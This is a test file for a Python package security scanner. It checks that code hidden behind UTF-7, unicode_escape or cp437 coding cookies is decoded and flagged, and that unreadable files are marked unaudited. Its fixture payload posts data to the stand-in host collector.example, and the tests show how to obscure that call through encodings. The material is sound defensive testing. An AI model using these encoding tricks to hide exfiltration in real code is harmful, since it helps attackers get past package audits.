// Fail closed: code is read as Python would read it (every codec CPython accepts in a coding cookie), and what
// still cannot be analysed makes the target UNAUDITED: listed with file and reason in every output, schema-valid,
// and failing the default --fail-on.
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import type { AuditResult, FileReport } from '../../src/model/result.ts';
import { decide } from '../../src/policy/apply.ts';
import { buildWheel } from '../../scripts/lib/build-dist.ts';
import { validateResult, validateSarif } from '../report/validate.ts';
import { runCli, scanJson } from './run-cli.ts';

const PAYLOAD = 'import requests\nrequests.post("https://collector.example/in", data=b"x")\n';
let dir: string;

function write(name: string, content: string | Uint8Array): string {
  writeFileSync(join(dir, name), content);
  return name;
}

/** Each line as one UTF-7 base64 run of its UTF-16BE code units: no ASCII of the code is left readable. */
function utf7(text: string): string {
  return text
    .split('\n')
    .map((line) => (line ? `+${Buffer.from(line, 'utf16le').swap16().toString('base64').replace(/=+$/, '')}-` : ''))
    .join('\n');
}

async function scanOne(name: string): Promise<{ code: number; result: AuditResult; file: FileReport }> {
  const { code, result } = await scanJson(name, dir);
  return { code, result, file: result.targets[0].files[0] };
}

const networkCall = (file: FileReport) => file.findings.find((f) => f.rule === 'egress-network-call');

describe('source read as Python reads it', () => {
  before(() => {
    dir = mkdtempSync(join(tmpdir(), 'pyguard-unaudited-'));
  });
  after(() => rmSync(dir, { recursive: true, force: true }));

  test('utf-7: code hidden in base64 runs is decoded and analysed', async () => {
    const { result, file } = await scanOne(write('utf7.py', `# coding: utf-7\n${utf7(PAYLOAD)}`));
    assert.equal(networkCall(file)?.destination?.host, 'collector.example');
    assert.equal(networkCall(file)?.line, 3);
    assert.equal(result.targets[0].unaudited, undefined);
  });

  test("utf-7 under an alias spelling (U7, with the tokenizer's own normalisation)", async () => {
    const { file } = await scanOne(write('u7.py', `#!/usr/bin/env python\n# -*- coding: U7 -*-\n${utf7(PAYLOAD)}`));
    assert.equal(networkCall(file)?.destination?.host, 'collector.example');
  });

  test('unicode_escape: code written as \\x and \\u escapes is decoded', async () => {
    const escaped = PAYLOAD.replace(/[a-z]/g, (c) => `\\x${c.charCodeAt(0).toString(16)}`).replace(/\n/g, '\\n');
    const { file } = await scanOne(write('escape.py', `# coding: unicode_escape\n${escaped}\n`));
    assert.equal(networkCall(file)?.destination?.host, 'collector.example');
    assert.equal(file.partial, false, JSON.stringify(file.partialReasons));
  });

  test('a single-byte code page CPython has and WHATWG lacks (cp437) is decoded by its table', async () => {
    const bytes = Buffer.concat([
      Buffer.from('# coding: cp437\nNAME = "'),
      Buffer.from([0x80, 0x81]),
      Buffer.from(`"\n${PAYLOAD}`),
    ]);
    const { file } = await scanOne(write('cp437.py', bytes));
    assert.equal(file.partial, false, JSON.stringify(file.partialReasons));
    assert.equal(networkCall(file)?.line, 4);
  });
});

describe('UNAUDITED', () => {
  before(() => {
    dir = mkdtempSync(join(tmpdir(), 'pyguard-unaudited-'));
  });
  after(() => rmSync(dir, { recursive: true, force: true }));

  test('a codec that cannot be decoded faithfully (hz with shift sequences) makes the target unaudited and fails the default --fail-on', async () => {
    mkdirSync(join(dir, 'pkg'));
    write('pkg/hz_file.py', '# coding: hz\nx = "~{<:Ky2;S{#,~}"\n');
    write('pkg/plain.py', PAYLOAD);
    const { code, result } = await scanJson('pkg', dir);
    assert.equal(code, 1);
    assert.deepEqual(validateResult(result), []);
    const target = result.targets[0];
    assert.deepEqual(
      target.unaudited?.map((item) => [item.path, item.rule]),
      [['hz_file.py', 'file-not-analysed']],
    );
    assert.match(target.unaudited![0].reason, /hz/);
    assert.equal(result.summary.unaudited, 1);
    // the other file is still analysed
    assert.ok(networkCall(target.files.find((f) => f.path === 'plain.py')!));
  });

  test('every output shows the unaudited file and why: terminal, SARIF, HTML', async () => {
    const terminal = await runCli(['scan', 'pkg'], dir);
    assert.equal(terminal.code, 1);
    assert.match(terminal.stdout, /UNAUDITED/);
    assert.match(terminal.stdout, /not analysed: hz_file\.py: .*hz/);
    const sarif = await runCli(['scan', 'pkg', '--sarif', 'out.sarif', '--html', 'out.html'], dir);
    assert.equal(sarif.code, 1);
    const log = JSON.parse(readFileSync(join(dir, 'out.sarif'), 'utf8'));
    assert.deepEqual(validateSarif(log), []);
    const notes = log.runs[0].invocations[0].toolExecutionNotifications as {
      message: { text: string };
      descriptor: { id: string };
    }[];
    assert.ok(
      notes.some((n) => n.descriptor.id === 'file-not-analysed' && /UNAUDITED: hz_file\.py/.test(n.message.text)),
    );
    assert.equal(log.runs[0].properties.unaudited, 1);
    const html = readFileSync(join(dir, 'out.html'), 'utf8');
    assert.match(html, /UNAUDITED: 1 package/);
    assert.match(html, /<code>hz_file\.py<\/code>/);
  });

  test('unaudited fails even a --fail-on of critical, and the install decision of the pip wrapper', async () => {
    const run = await runCli(['scan', 'pkg', '--json', '--fail-on', 'critical'], dir);
    assert.equal(run.code, 1);
    assert.equal(decide(JSON.parse(run.stdout) as AuditResult, 'critical'), 'fail');
  });

  test('a file over the parse limit is unaudited, with the size in the reason', async () => {
    const big = `${PAYLOAD}# ${'x'.repeat(17 * 1024 * 1024)}\n`;
    const { code, result } = await scanJson(write('big.py', big), dir);
    assert.equal(code, 1);
    assert.match(result.targets[0].unaudited?.[0].reason ?? '', /over the \d+-byte limit/);
  });

  test('code that runs but cannot be read is unaudited: a PyArmor-encrypted module, bytecode without its source', async () => {
    const armored = await scanJson(
      write('armored.py', "__pyarmor__(__name__, __file__, b'\\x50\\x59\\x41\\x52')\n"),
      dir,
    );
    assert.equal(armored.code, 1);
    assert.equal(armored.result.targets[0].unaudited?.[0].rule, 'pyarmor-loader');
    const wheel = buildWheel({
      name: 'compiled',
      version: '1.0',
      files: {
        'compiled/__init__.py': '',
        'compiled/core.pyc': Uint8Array.from([0xa7, 0x0d, 0x0d, 0x0a, ...new Array(16).fill(0)]),
      },
    });
    const compiled = await scanJson(write(wheel.filename, wheel.bytes), dir);
    assert.equal(compiled.code, 1);
    assert.deepEqual(
      compiled.result.targets[0].unaudited?.map((item) => item.rule),
      ['pkg-sourceless-module'],
    );
  });

  test('a coding cookie Python does not know is not unaudited (Python refuses the file), only noted', async () => {
    const { result, file } = await scanOne(write('unknown.py', `# coding: no-such-codec\n${PAYLOAD}`));
    assert.equal(result.targets[0].unaudited, undefined);
    assert.ok(file.partialReasons?.some((reason) => /unknown source encoding/.test(reason)));
  });
});
